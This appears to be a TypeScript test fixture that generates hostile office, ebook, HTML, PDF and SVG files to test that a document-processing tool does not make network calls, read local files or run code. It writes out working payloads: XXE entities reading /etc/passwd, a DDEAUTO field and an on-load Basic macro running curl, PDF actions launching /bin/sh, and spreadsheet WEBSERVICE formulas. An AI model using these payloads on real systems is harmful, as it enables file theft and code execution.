import { makeAzw3, makeMobi } from "../mobi.fixture"
import { makeDocx, makeEpub, makeXlsx } from "../office.fixture"
import { makePdf, textPage } from "../pdf.fixture"
import { odt } from "./bomb-files"
import { type HostileFile, hostile } from "./hostile-file"

/** A file of the machine with text that must not appear in any output. */
const SECRET_FILE = "file:///etc/passwd"
export const SECRET = "root:x:0:0"

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
const wordNamespaces = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"`

function relationship(id: string, type: string, target: string): string {
  return `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`
}

function relationships(rows: readonly string[]): string {
  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join("")}</Relationships>`
}

function linkedPicture(id: string): string {
  return `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
}

function field(instruction: string): string {
  return `<w:p><w:fldSimple w:instr='${instruction}'><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>`
}

/** Declares the package as a document with macros, although its name ends in .docx. */
const macroTypes =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

function linkingDocx(urls: readonly string[]): Buffer {
  const pictures = [...urls, SECRET_FILE].map((url, index) => ({ id: `rId${index + 10}`, url }))
  const rows = [
    ...pictures.map(({ id, url }) => relationship(id, "image", url)),
    ...urls.flatMap((url, index) => [
      relationship(`t${index}`, "attachedTemplate", `${url}.dotm`),
      relationship(`s${index}`, "subDocument", `${url}.docx`),
      relationship(`f${index}`, "aFChunk", `${url}.html`),
    ]),
  ]
  const fields = urls.flatMap((url) => [
    field(`INCLUDEPICTURE "${url}" \\d`),
    field(`INCLUDETEXT "${url}"`),
    field(`DDEAUTO c:\\\\windows\\\\cmd.exe "/k curl ${url}"`),
    `<w:altChunk r:id="f0"/>`,
    `<w:subDoc r:id="s0"/>`,
  ])
  const body = `<w:body>${pictures.map(({ id }) => linkedPicture(id)).join("")}${fields.join("")}${field('INCLUDETEXT "/etc/passwd"')}<w:p><w:r><w:t>文档</w:t></w:r></w:p></w:body>`
  return makeDocx([], {
    "[Content_Types].xml": macroTypes,
    "word/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex"),
    "word/document.xml": `<w:document ${wordNamespaces}>${body}</w:document>`,
    "word/_rels/document.xml.rels": relationships(rows),
  })
}

function linkingXlsx(urls: readonly string[]): Buffer {
  const cell = (formula: string): string =>
    `<c><f>${formula.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;")}</f></c>`
  const formulas = [
    ...urls.flatMap((url) => [
      `WEBSERVICE("${url}")`,
      `IMAGE("${url}")`,
      `'${url}'#$Sheet1.A1`,
      `HYPERLINK("${url}","x")`,
      `RTD("x",,"${url}")`,
    ]),
    `'${SECRET_FILE}'#$Sheet1.A1`,
  ]
  const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>${formulas.map(cell).join("")}<c t="inlineStr"><is><t>表</t></is></c></row></sheetData></worksheet>`
  return makeXlsx([["x"]], { "xl/worksheets/sheet1.xml": sheet })
}

/** Links of every kind, and a Basic program that runs when the document is opened. */
function linkingOdt(urls: readonly string[]): Buffer {
  const section = (url: string): string =>
    `<text:section text:name="${url}"><text:section-source xlink:type="simple" xlink:href="${url}" text:filter-name="Text"/><text:p>x</text:p></text:section>`
  const picture = (url: string): string =>
    `<text:p><draw:frame svg:width="5cm" svg:height="3cm"><draw:image xlink:href="${url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`
  const object = (url: string): string =>
    `<text:p><draw:frame svg:width="5cm" svg:height="3cm"><draw:object-ole xlink:href="${url}"/><draw:plugin xlink:href="${url}"/></draw:frame></text:p>`
  const body = [...urls, SECRET_FILE].map((url) => section(url) + picture(url) + object(url)).join("")
  const program = `Sub Main\n Shell("curl ${urls[0]}")\n Open "/tmp/macro-was-here" For Output As #1\n Print #1, "x"\n Close #1\nEnd Sub`
  const events =
    '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>'
  const library = 'xmlns:library="http://openoffice.org/2000/library"'
  return odt(`${events}<office:body><office:text><text:p>文档</text:p>${body}</office:text></office:body>`, "", {
    "Basic/script-lc.xml": `<library:libraries ${library} xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
    "Basic/Standard/script-lb.xml": `<library:library ${library} library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
    "Basic/Standard/Module1.xml": `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${program.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}</script:module>`,
  })
}

function linkingHtml(urls: readonly string[]): string {
  const tags = (url: string): string =>
    `<link rel="stylesheet" href="${url}.css"><style>@import url(${url}); body{background:url(${url})}</style><base href="${url}"><meta http-equiv="refresh" content="0;url=${url}">
    <img src="${url}"><img srcset="${url} 2x"><iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><script src="${url}"></script><video src="${url}" poster="${url}"></video>
    <svg><image href="${url}"/><use href="${url}#x"/></svg><form action="${url}"><input type="image" src="${url}"></form><p style="background:url(${url})" onclick="fetch('${url}')">文档</p>`
  return [...urls, SECRET_FILE].map(tags).join("")
}

const entity = (url: string): string =>
  `<!DOCTYPE x [<!ENTITY secret SYSTEM "${SECRET_FILE}"><!ENTITY call SYSTEM "${url}"><!ENTITY % outside SYSTEM "${url}.dtd"> %outside;]>`
const ENTITIES = "&secret;&call;"

/** Returns files that try to make this machine open connections, read local files or run programs. `urls` point to a listener. */
export function linkFiles(urls: readonly string[]): HostileFile[] {
  const [url = ""] = urls
  const pdfActions = urls.map(
    (to) =>
      `<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(${to})>>>><</Type/Annot/Subtype/Widget/FT/Tx/T(t)/Rect[0 0 9 9]/AA<</O<</S/SubmitForm/F(${to})>>/PO<</S/GoToR/F(${to})/D[0/Fit]>>>>>>`,
  )
  return [
    hostile("links and a macro in .docx", "a.docx", "shown", () => linkingDocx(urls)),
    hostile("links and a macro in .odt", "a.odt", "shown", () => linkingOdt(urls)),
    hostile("calls in .xlsx", "a.xlsx", "shown", () => linkingXlsx(urls)),
    hostile("calls in .csv", "a.csv", "shown", () =>
      Buffer.from(urls.map((to) => `"=WEBSERVICE(""${to}"")","='${SECRET_FILE}'#$x.A1"`).join("\n")),
    ),
    hostile("links in .html", "a.html", "shown", () => Buffer.from(linkingHtml(urls))),
    hostile("links in .md", "a.md", "shown", () =>
      Buffer.from(urls.map((to) => `文档 ![x](${to}) [y](${to}) <img src="${to}"> ![z](${SECRET_FILE})`).join("\n\n")),
    ),
    hostile("links in .rtf", "a.rtf", "shown", () => {
      const fields = urls.map(
        (to) => `{\\field{\\*\\fldinst INCLUDEPICTURE "${to}" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${to}"}{\\fldrslt y}}`,
      )
      return Buffer.from(
        `{\\rtf1\\ansi{\\*\\template ${url}}Hello ${fields.join("")}{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt z}}\\par}`,
      )
    }),
    hostile("links in .epub", "a.epub", "shown", () =>
      makeEpub([`<p>正文</p>${linkingHtml(urls)}<img src="../../../../../../etc/passwd"/>`]),
    ),
    hostile("links in .mobi", "a.mobi", "shown", () => makeMobi(`<p>正文</p>${linkingHtml(urls)}`)),
    hostile("links in .azw3", "a.azw3", "shown", () => makeAzw3([`<p>正文</p>${linkingHtml(urls)}`])),
    hostile("actions in a PDF", "a.pdf", "shown", () =>
      makePdf([{ ...textPage("x"), extra: `/Annots[${pdfActions.join("")}]/AA<</O<</S/Launch/F(/bin/sh)>>>>` }], {
        catalog: `/OpenAction<</S/JavaScript/JS(this.submitForm\\("${url}"\\);app.launchURL\\("${url}"\\))>>/URI<</Base(${url})>>`,
      }),
    ),
    hostile("a PDF whose stream lies elsewhere", "a.pdf", ["shown", "corrupt"], () =>
      makePdf([{ content: "q 500 0 0 500 50 50 cm /I Do Q", resources: "/XObject<</I 9 0 R>>" }], {
        extra: () => [
          `<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(${url})>>/Length 0>>stream\n\nendstream`,
        ],
      }),
    ),
    hostile("outside entities in .docx", "a.docx", ["shown", "corrupt"], () =>
      makeDocx([], {
        "word/document.xml": `${entity(url)}<w:document ${wordNamespaces}><w:body><w:p><w:r><w:t>文档 ${ENTITIES}</w:t></w:r></w:p></w:body></w:document>`,
      }),
    ),
    hostile("outside entities in .odt", "a.odt", ["shown", "corrupt"], () =>
      odt(`<office:body><office:text><text:p>文档 ${ENTITIES}</text:p></office:text></office:body>`, entity(url)),
    ),
    hostile("outside entities in .xlsx", "a.xlsx", ["shown", "corrupt"], () =>
      makeXlsx([["x"]], {
        "xl/worksheets/sheet1.xml": `${entity(url)}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>${ENTITIES}</t></is></c></row></sheetData></worksheet>`,
      }),
    ),
    hostile("outside entities in .epub", "a.epub", "shown", () => makeEpub([`${entity(url)}<p>正文 ${ENTITIES}</p>`])),
    hostile("outside entities in .html", "a.html", "shown", () => Buffer.from(`${entity(url)}<p>正文 ${ENTITIES}</p>`)),
    hostile("outside entities in .svg", "a.svg", "unsupported", () =>
      Buffer.from(`${entity(url)}<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/><text>${ENTITIES}</text></svg>`),
    ),
    hostile("a .docm", "a.docm", "shown", () => makeDocx(["x"], { "word/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") })),
    hostile("a .xlsm", "a.xlsm", "shown", () => makeXlsx([["x"]], { "xl/vbaProject.bin": Buffer.from("d0cf11e0a1b11ae1", "hex") })),
  ]
}
